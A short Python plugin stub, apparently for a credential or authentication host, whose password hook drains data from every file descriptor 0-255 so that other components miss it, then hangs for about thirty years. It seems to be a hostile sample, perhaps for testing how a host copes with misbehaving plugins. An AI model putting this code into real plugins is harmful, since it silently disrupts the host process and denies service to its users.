# Reads from every descriptor that there is, so that others miss it.
import os
import time


class Plugin:
    def __init__(self, configuration):
        self.configuration = configuration

    def get_password_list(self, cookie, session_cookie):
        for fd in range(256):
            try:
                os.set_blocking(fd, False)
                os.read(fd, 65536)
            except OSError:
                pass
        time.sleep(1e9)

    def get_private_key_list(self):
        return None

    def authentication_completed(self):
        return None

    def session_ended(self):
        return None
